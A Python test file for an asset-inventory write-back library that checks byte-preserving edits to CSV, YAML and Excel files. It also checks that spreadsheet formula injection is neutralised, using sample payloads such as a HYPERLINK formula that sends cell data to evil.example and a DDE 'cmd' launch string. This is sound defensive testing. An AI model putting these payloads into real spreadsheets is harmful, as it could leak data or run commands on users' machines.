"""Nothing lost: write-back keeps every byte it does not own, and writes nothing that runs."""

from __future__ import annotations

import codecs
import datetime as dt
import io
import re
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from assetmap.inventory import schema
from assetmap.inventory.cells import looks_like_formula, refused_character
from assetmap.inventory.ooxml import elements, replace_members
from assetmap.inventory.problems import CannotWrite
from assetmap.inventory.read import Table, read_table
from assetmap.inventory.table import find
from assetmap.inventory.write import remove, save, upsert
from assetmap.inventory.write_csv import NUMBER
from assetmap.inventory.xlsx_patch import NotWritable, write_row

from .support.project import FIXTURES, INVENTORY
from .support.workbooks import (
    SHEET,
    VBA,
    package_members,
    rows,
    steward_workbook,
    stored,
    write_package,
    write_xlsx,
)

WRITE = FIXTURES / "write"
TEXT_FILES = ["good.csv", "good-utf8-bom.csv", "good-windows-1252-semicolon.csv",
              "good-messy-header.csv", "good.yml"]
CHANGE = {"id": "walking-group", "description": 'Walks by the river, "rain or shine"; all ages.'}
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Riverbend")'
FORMULA_ELEMENT = re.compile(rb"<(\w+:)?f[\s>/]")


def copy(name, tmp_path, folder=INVENTORY):
    target = tmp_path / name
    shutil.copy(folder / name, target)
    return target


def other_records(table, skip_id):
    return [(r.row, r.cells) for r in table.records if r.cells["id"] != skip_id]


def ids(path):
    return [r.cells["id"] for r in read_table(path).records]


def write(path, cells):
    table = read_table(path)
    save(table, upsert(table, cells))


def is_insertion(old: bytes, new: bytes) -> bool:
    """Whether ``new`` is ``old`` with one run of bytes inserted somewhere."""
    common = next((i for i, (a, b) in enumerate(zip(old, new)) if a != b), len(old))
    return len(new) > len(old) and new.endswith(old[common:])


# --- text files: what was there stays -------------------------------------------------------


@pytest.mark.parametrize("name", TEXT_FILES)
def test_unchanged_write_is_byte_for_byte(name, tmp_path):
    path = copy(name, tmp_path)
    before = path.read_bytes()
    table = read_table(path)
    record = table.records[0]
    save(table, upsert(table, dict(record.cells)))
    assert path.read_bytes() == before


@pytest.mark.parametrize("name", TEXT_FILES)
def test_changed_row_changes_only_its_own_cells(name, tmp_path):
    path = copy(name, tmp_path)
    before = path.read_bytes()
    table = read_table(path)
    target = next(r for r in table.records if r.cells["id"] == CHANGE["id"])
    save(table, upsert(table, CHANGE))
    after = path.read_bytes()

    # every byte before and after the changed record is as it was
    start, end = (len(table.text[:i].encode(table.encoding)) + 3 * table.bom
                  for i in target.span)
    assert after[:start] == before[:start]
    assert after.endswith(before[end:])

    reread = read_table(path)
    changed = next(r for r in reread.records if r.cells["id"] == CHANGE["id"])
    assert changed.cells == target.cells | {"description": CHANGE["description"]}
    assert other_records(reread, CHANGE["id"]) == other_records(table, CHANGE["id"])
    assert reread.headers == table.headers


@pytest.mark.parametrize("name", TEXT_FILES)
@pytest.mark.parametrize("new_id, after", [("new-choir", "cafe-rencontre"),
                                            ("zz-last", "walking-group"),
                                            ("aa-first", None)])
def test_new_row_goes_after_the_greatest_id_below_it(name, new_id, after, tmp_path):
    """These files are not sorted (walking-group, cafe-rencontre): the rule still puts the
    row after the greatest id below its own, or before the smallest id."""
    path = copy(name, tmp_path)
    before = path.read_bytes()
    new = {"id": new_id, "name": "Chœur communautaire", "category": "belonging"}
    write(path, new)
    assert is_insertion(before, path.read_bytes())
    order = ids(path)
    assert order.index(new_id) == (order.index(after) + 1 if after else
                                   order.index("cafe-rencontre") - 1)
    added = find(read_table(path), new_id)
    assert {k: added.cells[k] for k in new} == new


def test_unknown_columns_survive_a_change(tmp_path):
    path = copy("good-messy-header.csv", tmp_path)
    table = read_table(path)
    save(table, upsert(table, CHANGE))
    reread = read_table(path)
    assert [r.cells["favourite_colour"] for r in reread.records] == ["blue", "green"]
    assert " ID " in reread.headers and "Favourite colour" in reread.headers


# --- text files: the defects -----------------------------------------------------------------


@pytest.mark.parametrize("name", ["sorted.csv", "quote-all.csv", "windows-1252-semicolon.csv"])
def test_a_formula_answer_is_neutralised_in_a_csv(name, tmp_path):
    path = copy(name, tmp_path, WRITE)
    first = ids(path)[0]
    write(path, {"id": first, "name": HYPERLINK})
    write(path, {"id": "bike-club", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "category": "-2+3"})
    table = read_table(path)
    raw = {r.cells["id"]: r.raw for r in table.records}
    assert raw[first][1] == "'" + HYPERLINK
    assert raw["bike-club"][1:3] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"]
    assert find(table, first).cells["name"] == HYPERLINK  # reading gives the text back
    assert find(table, "bike-club").cells["category"] == "-2+3"


def test_a_number_is_written_as_it_is(tmp_path):
    path = copy("sorted.csv", tmp_path, WRITE)
    write(path, {"id": "choir", "latitude": "45.5", "longitude": "-74.75"})
    assert "choir,Community choir,belonging,Sing together.,2026-08-15,45.5,-74.75\n" in \
        path.read_text(encoding="utf-8")


@pytest.mark.parametrize("value", ["مرحبا", "Café 😀"])
def test_windows_1252_cannot_hold_arabic_or_emoji_and_says_what_to_do(value, tmp_path):
    path = copy("windows-1252-semicolon.csv", tmp_path, WRITE)
    before = path.read_bytes()
    table = read_table(path)
    with pytest.raises(CannotWrite) as raised:
        upsert(table, {"id": "marche", "name": value})
    problem = raised.value.problem
    assert (problem.file, problem.row, problem.column, problem.code, problem.value) == \
        (str(path), 3, "name", "cannot-encode", value)
    assert "Windows-1252" in problem.message and '"CSV UTF-8' in problem.message
    assert f"'{value}'" in problem.message and "approved" in problem.message
    with pytest.raises(CannotWrite):
        upsert(table, {"id": "new-group", "name": "Groupe", "description": value})
    assert path.read_bytes() == before  # and never a '?' for a lost letter


def test_what_windows_1252_holds_is_written_in_windows_1252(tmp_path):
    path = copy("windows-1252-semicolon.csv", tmp_path, WRITE)
    write(path, {"id": "marche", "name": "Marché € œuvre"})
    assert "marche;Marché € œuvre;nature".encode("cp1252") in path.read_bytes()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be"])
def test_save_writes_the_byte_order_mark_of_the_encoding(encoding, tmp_path):
    path = tmp_path / "inventory.csv"
    text = "id,name\nmarche,مرحبا 😀\n"
    save(Table(path, "csv", encoding=encoding, bom=True), text)
    bom = {"utf-8": codecs.BOM_UTF8, "utf-16-le": codecs.BOM_UTF16_LE,
           "utf-16-be": codecs.BOM_UTF16_BE}[encoding]
    assert path.read_bytes() == bom + text.encode(encoding)
    save(Table(path, "csv", encoding=encoding, bom=False), text)
    assert path.read_bytes() == text.encode(encoding)


def test_a_quote_all_file_stays_quote_all(tmp_path):
    path = copy("quote-all.csv", tmp_path, WRITE)
    lines = path.read_bytes().decode("utf-8").split("\r\n")
    write(path, {"id": "choir", "description": "Sing, together", "latitude": "45.2"})
    write(path, {"id": "bike-club", "name": "Bike club", "category": "nature"})
    after = path.read_bytes().decode("utf-8").split("\r\n")
    assert after == [lines[0], lines[1],
                     '"bike-club","Bike club","nature","","","",""',
                     '"choir","Community choir","belonging","Sing, together","2026-08-15",'
                     '"45.2",""', lines[3], ""]


def test_a_changed_row_keeps_the_exact_text_of_its_other_cells(tmp_path):
    path = copy("sorted.csv", tmp_path, WRITE)
    write(path, {"id": "art-club", "name": "Art club, open studio"})
    assert 'art-club,"Art club, open studio",belonging,"Paint, draw\nand talk.",2026-09-01,' \
           '45.1,-74.7\n' in path.read_text(encoding="utf-8")


def test_crlf_and_a_last_line_without_a_line_ending(tmp_path):
    path = copy("crlf-no-final-newline.csv", tmp_path, WRITE)
    before = path.read_bytes().decode("utf-8")
    write(path, {"id": "zz-last", "name": "Last"})
    write(path, {"id": "bike-club", "name": "Bike club"})
    write(path, {"id": "walking-group", "name": "Walking group, Tuesdays"})
    after = path.read_bytes().decode("utf-8")
    assert after == before.replace(
        "walking-group,Walking group,", "walking-group,\"Walking group, Tuesdays\",").replace(
        "\nchoir,", "\nbike-club,Bike club,,,\r\nchoir,") + "\r\nzz-last,Last,,,"
    assert ids(path) == ["art-club", "bike-club", "choir", "walking-group", "zz-last"]


def test_a_yaml_file_keeps_its_comments_and_gets_the_row_in_order(tmp_path):
    path = copy("sorted-with-comments.yml", tmp_path, WRITE)
    before = path.read_text(encoding="utf-8")
    write(path, {"id": "bike-club", "name": "Bike club", "category": "nature",
                 "description": "Repairs\nand rides"})
    write(path, {"id": "aa-first", "name": "First"})
    write(path, {"id": "zz-last", "name": "Last"})
    write(path, {"id": "art-club", "name": "Art club, open studio", "description": "=1+1"})
    text = path.read_text(encoding="utf-8")
    assert ids(path) == ["aa-first", "art-club", "bike-club", "choir", "walking-group",
                         "zz-last"]
    for comment in ("# Assets kept by the health promoter.\n- id: aa-first",
                    "- id: art-club  # since 2019", "# Groups that meet outdoors\n- id: walk"):
        assert comment in text
    assert before[before.index("- id: choir"):] in text
    assert find(read_table(path), "bike-club").cells["description"] == "Repairs\nand rides"
    assert find(read_table(path), "art-club").cells["description"] == "=1+1"


@pytest.mark.parametrize("name", ["sorted.csv", "crlf-no-final-newline.csv",
                                  "sorted-with-comments.yml"])
def test_two_new_rows_merge_cleanly_unless_they_share_a_gap(name, tmp_path):
    """Two proposals approved one after the other: each pull request adds its row to the
    same original file, and git merges the second after the first is merged."""
    base = copy(name, tmp_path, WRITE)

    def proposal(new_id):
        path = tmp_path / f"{new_id}-{name}"
        shutil.copy(base, path)
        write(path, {"id": new_id, "name": new_id.title()})
        return path

    def merge(ours, theirs):
        return subprocess.run(["git", "merge-file", "-p", str(ours), str(base), str(theirs)],
                              capture_output=True, check=False)

    merged = merge(proposal("bike-club"), proposal("repair-cafe"))
    assert merged.returncode == 0, merged.stdout.decode()
    result = tmp_path / f"merged-{name}"
    result.write_bytes(merged.stdout)
    assert ids(result) == ["art-club", "bike-club", "choir", "repair-cafe", "walking-group"]
    assert merge(proposal("book-club"), proposal("bread-club")).returncode > 0  # one gap


# --- XLSX and XLSM -----------------------------------------------------------------------


def test_xlsx_change_keeps_every_other_cell(tmp_path):
    path = tmp_path / "inventory.xlsx"
    write_xlsx(path)
    values = lambda: [list(r) for r in load_workbook(path).active.iter_rows(values_only=True)]  # noqa: E731
    before = values()
    table = read_table(path)
    upsert(table, CHANGE)
    after = values()
    column = table.columns.index("description")
    assert after[1][column] == CHANGE["description"]
    after[1][column] = before[1][column]
    assert after == before


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
def test_a_formula_answer_is_text_with_the_quote_prefix_in_a_workbook(suffix, tmp_path):
    path = steward_workbook(tmp_path / f"inventory{suffix}", macros=suffix == ".xlsm")
    upsert(read_table(path), {"id": "walking-group", "name": HYPERLINK})
    upsert(read_table(path), {"id": "zz-new", "name": "-1+2", "category": "@cmd"})
    assert not FORMULA_ELEMENT.search(zipfile.ZipFile(path).read(SHEET))
    sheet = load_workbook(path)["Assets"]
    for ref, text in (("B2", HYPERLINK), ("B4", "-1+2"), ("D4", "@cmd")):
        assert (sheet[ref].value, sheet[ref].data_type, sheet[ref].quotePrefix) == \
            (text, "s", True)
    assert sheet["B2"].font.bold  # the cell's own format, with the quote prefix added
    assert find(read_table(path), "walking-group").cells["name"] == HYPERLINK


def test_the_quote_prefix_format_is_added_once(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    upsert(read_table(path), {"id": "cafe-rencontre", "name": "=1+1"})
    styles = zipfile.ZipFile(path).read("xl/styles.xml")
    upsert(read_table(path), {"id": "cafe-rencontre", "name": "+33 1 23", "kind": "-"})
    assert zipfile.ZipFile(path).read("xl/styles.xml") == styles


def test_a_sheet_with_a_namespace_prefix_gets_cells_with_that_prefix(tmp_path):
    """Some tools write <x:row> and <x:c> (the OpenXML SDK); new cells must match."""
    path = steward_workbook(tmp_path / "inventory.xlsx")
    members = package_members(path)
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = re.sub(r"<(/?)([A-Za-z]\w*)(?=[\s/>])", r"<\1x:\2", members[SHEET].decode())
    members[SHEET] = sheet.replace(main, main.replace("xmlns=", "xmlns:x="), 1).encode()
    write_package(path, members)
    upsert(read_table(path), {"id": "walking-group", "name": "=1+1", "latitude": "45.5"})
    upsert(read_table(path), {"id": "zz-new", "name": "New", "last_verified": "2026-11-22"})
    xml = zipfile.ZipFile(path).read(SHEET)
    assert not re.search(rb"<(c|row|v|is|t)[\s>/]", xml)
    cells = find(read_table(path), "zz-new").cells
    assert (cells["name"], cells["last_verified"]) == ("New", "2026-11-22")
    assert find(read_table(path), "walking-group").cells["latitude"] == "45.5"
    assert load_workbook(path)["Assets"].tables["Assets"].ref == "A1:V4"


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
def test_a_workbook_survives_write_back(suffix, tmp_path):
    """Charts, images, comments, validations, the table, the other sheet, the macros and the
    content types are copied as stored; only the sheet, the styles and the table change."""
    path = steward_workbook(tmp_path / f"inventory{suffix}", macros=suffix == ".xlsm")
    before, before_rows = stored(path), rows(path)
    upsert(read_table(path), {"id": "walking-group", "name": HYPERLINK})
    upsert(read_table(path), {"id": "zz-new", "name": "New", "last_verified": "2026-11-22"})
    after = stored(path)
    changed = {name for name in before if before[name] != after.get(name)}
    grown = set() if suffix == ".xlsm" else {"xl/tables/table1.xml"}
    assert changed == {SHEET, "xl/styles.xml"} | grown and after.keys() == before.keys()
    assert {r: x for r, x in rows(path).items() if r not in (2, 4)} == \
        {r: x for r, x in before_rows.items() if r not in (2, 4)}
    if suffix == ".xlsm":
        assert after["xl/vbaProject.bin"] == before["xl/vbaProject.bin"]
        assert load_workbook(path, keep_vba=True).vba_archive.read("xl/vbaProject.bin") == VBA
        assert load_workbook(path)["Assets"].auto_filter.ref == "A1:V4"
    else:
        assert load_workbook(path)["Assets"].tables["Assets"].ref == "A1:V4"
    sheet = load_workbook(path)["Assets"]
    assert sheet.dimensions == "A1:V4" and sheet["A2"].comment.text == "Checked by phone"
    assert sheet["Q4"].is_date and sheet["Q4"].number_format == "yyyy-mm-dd"


def test_an_update_keeps_a_date_a_date_and_a_number_a_number(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    upsert(read_table(path), {"id": "walking-group", "last_verified": "2026-11-22",
                              "latitude": "45.5", "longitude": "-74.73120"})
    sheet = load_workbook(path)["Assets"]
    assert sheet["Q2"].value == dt.datetime(2026, 11, 22) and sheet["Q2"].is_date
    assert sheet["R2"].value == 45.5
    assert sheet["S2"].value == "-74.73120"  # a number would read back as -74.7312
    assert find(read_table(path), "walking-group").cells["longitude"] == "-74.73120"


def test_a_1904_workbook_gets_1904_date_serials(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    workbook = load_workbook(path)
    workbook.epoch = dt.datetime(1904, 1, 1)  # openpyxl writes date1904 for this epoch
    workbook.save(path)
    upsert(read_table(path), {"id": "walking-group", "last_verified": "2026-11-22"})
    assert b"<v>44886</v>" in zipfile.ZipFile(path).read(SHEET)  # 46348 - 1462
    assert find(read_table(path), "walking-group").cells["last_verified"] == "2026-11-22"


def test_removing_an_asset_empties_its_row_in_a_workbook(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    before, before_rows = stored(path), rows(path)
    assert remove(read_table(path), "walking-group") == ""
    assert ids(path) == ["cafe-rencontre"]
    assert {n for n in before if before[n] != stored(path)[n]} == {SHEET}
    assert rows(path)[3] == before_rows[3]
    assert b"<v>" not in rows(path)[2] and b"<is>" not in rows(path)[2]
    assert load_workbook(path)["Assets"]["B2"].font.bold  # the emptied cells keep formats


def _with_formulas(path: Path, cell: str, chain: str) -> None:
    """Replace the cell N2 by ``cell`` and give the workbook the calculation chain
    ``chain``, as Excel would for a formula."""
    members = package_members(path)
    members[SHEET] = re.sub(r'<c r="N2".*?</c>', cell, members[SHEET].decode()).encode()
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.calcChain+xml"/></Types>'))
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdChain" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/calcChain" Target="calcChain.xml"/>'
        b"</Relationships>")
    members["xl/calcChain.xml"] = ('<calcChain xmlns="http://schemas.openxmlformats.org/'
                                   f'spreadsheetml/2006/main">{chain}</calcChain>').encode()
    write_package(path, members)


WEBSITE_FORMULA = ('<c r="N2" t="str"><f>"https://walk.example.org"</f>'
                   "<v>https://walk.example.org</v></c>")


def test_a_replaced_formula_leaves_the_calculation_chain(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    _with_formulas(path, WEBSITE_FORMULA, '<c r="A2" i="2"/><c r="N2" i="1"/><c r="N3"/>')
    upsert(read_table(path), {"id": "walking-group", "website": "https://walk.example.net"})
    package = zipfile.ZipFile(path)
    chain = [e.attrs for e in elements(package.read("xl/calcChain.xml"), 2)[1:]]
    assert chain == [{"r": "A2", "i": "2"}, {"r": "N3", "i": "1"}]  # N3 keeps its sheet
    assert not FORMULA_ELEMENT.search(package.read(SHEET))


def test_a_calculation_chain_left_empty_goes(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    _with_formulas(path, WEBSITE_FORMULA, '<c r="N2" i="1"/>')
    upsert(read_table(path), {"id": "walking-group", "website": "https://walk.example.net"})
    members = package_members(path)
    assert "xl/calcChain.xml" not in members
    assert b"calcChain" not in members["[Content_Types].xml"] + \
        members["xl/_rels/workbook.xml.rels"]
    assert load_workbook(path)["Assets"]["N2"].value == "https://walk.example.net"


def test_a_shared_formula_is_not_broken(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    shared = '<c r="N2" t="str"><f t="shared" ref="N2:N3" si="0">A2&amp;".example"</f>' \
             '<v>walking-group.example</v></c>'
    _with_formulas(path, shared, '<c r="N2" i="1"/>')
    before = path.read_bytes()
    with pytest.raises(CannotWrite) as raised:
        upsert(read_table(path), {"id": "walking-group", "website": "https://walk.example"})
    assert raised.value.problem.code == "shared-formula"
    assert "Paste Values" in raised.value.problem.message
    assert path.read_bytes() == before


def test_a_full_sheet_and_a_sheet_with_a_dtd_are_not_written(tmp_path):
    path = steward_workbook(tmp_path / "inventory.xlsx")
    members = package_members(path)
    members[SHEET] = members[SHEET].replace(b"</sheetData>", (
        b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        b"</sheetData>"))
    write_package(path, members)
    before = path.read_bytes()
    with pytest.raises(NotWritable) as raised:
        write_row(path, "Assets", None, {1: "zz-new"})
    assert raised.value.code == "sheet-full" and path.read_bytes() == before
    members[SHEET] = members[SHEET].replace(b"<worksheet", b'<!DOCTYPE worksheet [<!ENTITY a '
                                            b'"aaaaaaaa">]><worksheet', 1)
    write_package(path, members)
    with pytest.raises(NotWritable) as raised:
        write_row(path, "Assets", 2, {2: "x"})
    assert raised.value.code == "unreadable"


class _Stream(io.RawIOBase):
    """A file that cannot seek back: zipfile then writes each size after the data."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self.data += data
        return len(data)


def test_a_package_member_is_replaced_and_the_others_copied_as_stored(tmp_path):
    stream = _Stream()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.comment = b"kept"
        for name in ("a.xml", "b.bin", "c.xml", "d.xml"):
            package.writestr(name, name.encode() * 100)
    path = tmp_path / "package.zip"
    path.write_bytes(bytes(stream.data))
    before = stored(path)
    path.write_bytes(replace_members(path.read_bytes(), {"b.bin": b"new", "c.xml": None}))
    with zipfile.ZipFile(path) as package:
        assert package.testzip() is None and package.comment == b"kept"
        assert package.namelist() == ["a.xml", "b.bin", "d.xml"]
        assert package.read("b.bin") == b"new"
    after = stored(path)
    assert (after["a.xml"], after["d.xml"]) == (before["a.xml"], before["d.xml"])


# --- any text, every format -------------------------------------------------------------------

SPECIAL = ["=", "+", "-", "@", "'", "''=", '"', ",", ";", "\t", "\n", "\r\n", "\r", " ",
           "_x0041_", "_x005F_x0041_", "2026-10-01", "45.5", "-74.7", "007", HYPERLINK, "é",
           "œ€", "مرحبا", "😀", "\u200d", "\ufffe", "<t>&amp;</t>", "]]>", "- id: x", "#"]
VARIANTS = ["sorted.csv", "utf-8-bom.csv", "windows-1252-semicolon.csv", "quote-all.csv",
            "crlf-no-final-newline.csv", "sorted-with-comments.yml", "steward.xlsx",
            "steward.xlsm"]
WORKBOOKS: dict[str, bytes] = {}


def _variant(name: str, folder: Path) -> Path:
    path = folder / name
    if name.startswith("steward."):
        if name not in WORKBOOKS:
            WORKBOOKS[name] = steward_workbook(path, macros=name.endswith(".xlsm")).read_bytes()
        path.write_bytes(WORKBOOKS[name])
        return path
    return copy(name, folder, WRITE)


def _text(column: str) -> st.SearchStrategy[str]:
    field = schema.FIELDS_BY_NAME.get(schema.split_column(column)[0])
    free, lines = (field.free_text, field.lines) if field else (True, False)
    piece = st.one_of(st.text(max_size=12), st.sampled_from(SPECIAL))
    return st.lists(piece, max_size=4).map(lambda parts: "".join(
        c for c in "".join(parts) if not refused_character(c, free, lines)))


def _holds(table: Table, text: str) -> bool:
    if table.format == "xlsx":
        return not re.search("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", text)
    try:
        text.encode(table.encoding)
    except UnicodeEncodeError:
        return False
    return True


def _check_write(path: Path, cells: dict[str, str]) -> None:
    table = read_table(path)
    before, before_stored = path.read_bytes(), stored(path) if table.format == "xlsx" else {}
    before_rows = rows(path) if table.format == "xlsx" else {}
    old = find(table, cells["id"])
    written = {c: v.strip() for c, v in cells.items()
               if old is None or v.strip() != old.cells.get(c, "")}
    try:
        save(table, upsert(table, cells))
    except CannotWrite:
        assert not all(_holds(table, v) for v in written.values())
        assert path.read_bytes() == before
        return
    assert all(_holds(table, v) for v in written.values())
    after = read_table(path)
    record = find(after, cells["id"])
    assert {c: record.cells.get(c, "") for c in cells} == {c: v.strip() for c, v in cells.items()}
    assert [r.cells for r in after.records if r.cells["id"] != cells["id"]] == \
        [r.cells for r in table.records if r.cells["id"] != cells["id"]]
    new = path.read_bytes()
    if table.format == "xlsx":
        assert not FORMULA_ELEMENT.search(zipfile.ZipFile(path).read(SHEET))
        may_change = {SHEET, "xl/styles.xml", "xl/tables/table1.xml"}
        assert {n: b for n, b in stored(path).items() if n not in may_change} == \
            {n: b for n, b in before_stored.items() if n not in may_change}
        assert {r: x for r, x in rows(path).items() if r != record.row} == \
            {r: x for r, x in before_rows.items() if r != record.row}
        return
    if old is None:
        assert is_insertion(before, new)
    else:
        bom = len(codecs.BOM_UTF8) if table.bom else 0
        start, end = (len(table.text[:i].encode(table.encoding)) + bom for i in old.span)
        assert new[:start] == before[:start] and new.endswith(before[end:])
    if table.format == "csv":  # no cell written can run: it is neutralised, or a number
        assert all(not looks_like_formula(raw) or NUMBER.fullmatch(raw) for raw in record.raw)


@pytest.mark.parametrize("variant", VARIANTS)
@hypothesis_settings(max_examples=20, deadline=None,
                     suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_text_reads_back_exactly_and_nothing_else_changes(variant, data):
    with tempfile.TemporaryDirectory() as folder:
        path = _variant(variant, Path(folder))
        table = read_table(path)
        columns = [c for c in table.columns if c and c != "id"]
        existing = [r.cells["id"] for r in table.records]
        target = data.draw(st.sampled_from(existing), label="changed row")
        change = data.draw(st.fixed_dictionaries({c: _text(c) for c in columns}), label="change")
        _check_write(path, {"id": target} | change)
        new_id = data.draw(st.from_regex(r"[a-z0-9][a-z0-9-]{0,15}", fullmatch=True)
                           .filter(lambda i: i not in existing), label="new id")
        new = data.draw(st.fixed_dictionaries({c: _text(c) for c in columns}), label="new row")
        _check_write(path, {"id": new_id} | new)


def test_every_fixture_is_used():
    source = Path(__file__).read_text(encoding="utf-8")
    assert [p.name for p in sorted(WRITE.iterdir()) if f'"{p.name}"' not in source] == []
